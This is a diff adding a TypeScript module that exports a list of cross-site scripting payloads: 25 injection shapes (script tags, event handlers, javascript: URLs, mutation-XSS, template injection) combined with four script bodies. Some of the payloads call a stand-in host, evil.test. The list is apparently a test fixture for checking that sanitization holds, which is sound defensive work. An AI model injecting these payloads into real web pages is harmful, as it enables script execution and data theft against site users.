@@ -1,0 +1,30 @@
+const SCRIPTS = ['alert(1)', 'top.hit=1', 'fetch("//evil.test")', 'parent.postMessage(1,"*")'];
+
+/** Texts that would run, load or break out if any surface took them for markup: 25 shapes around 4 scripts. */
+export const PAYLOADS: string[] = SCRIPTS.flatMap((script) => [
+  `<script>${script}</script>`,
+  `</script><script>${script}</script>`,
+  `<img src=x onerror=${script}>`,
+  `<img src=x onerror="${script}"`,
+  `"><img src=x onerror=${script}>`,
+  `'><svg onload=${script}>`,
+  `<svg/onload=${script}>`,
+  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
+  `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
+  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
+  `<iframe src="javascript:${script}"></iframe>`,
+  `<object data="javascript:${script}"></object>`,
+  `<a href="javascript:${script}">x</a>`,
+  `<details open ontoggle=${script}>`,
+  `<body onload=${script}>`,
+  `<video><source onerror=${script}></video>`,
+  `<template><script>${script}</script></template>`,
+  `</style><script>${script}</script>`,
+  `<style>@import "//evil.test/${script}"</style>`,
+  `<link rel=stylesheet href="//evil.test/${script}">`,
+  `<base href="javascript:${script}//">`,
+  `<!--><script>${script}</script>-->`,
+  `&lt;script&gt;${script}&lt;/script&gt;`,
+  `{{constructor.constructor('${script}')()}}`,
+]);
